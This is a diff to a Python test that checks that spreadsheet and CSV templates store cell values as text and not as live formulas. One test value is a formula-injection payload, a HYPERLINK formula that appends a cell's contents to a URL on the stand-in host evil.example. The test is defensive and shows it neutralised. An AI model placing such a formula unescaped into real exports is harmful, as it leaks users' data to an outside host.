@@ -160,7 +160,7 @@ def test_templates_write_text_never_formulas(mini_dir: Path):
     assert example.data_type == "s"
     assert example.value == "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Mở\")"
     csv_text = templates.template_csv("models", tables).decode("utf-8-sig")
-    assert "\"'=HYPERLINK(" in csv_text.splitlines()[1]
+    assert "HYPERLINK" not in csv_text  # its second row explains the columns, no stored value
     export = openpyxl.load_workbook(io.BytesIO(templates.table_xlsx("models", tables["models"])))
     cell = export.active["B4"]
     assert (cell.data_type, cell.value[:3]) == ("s", "'=H")
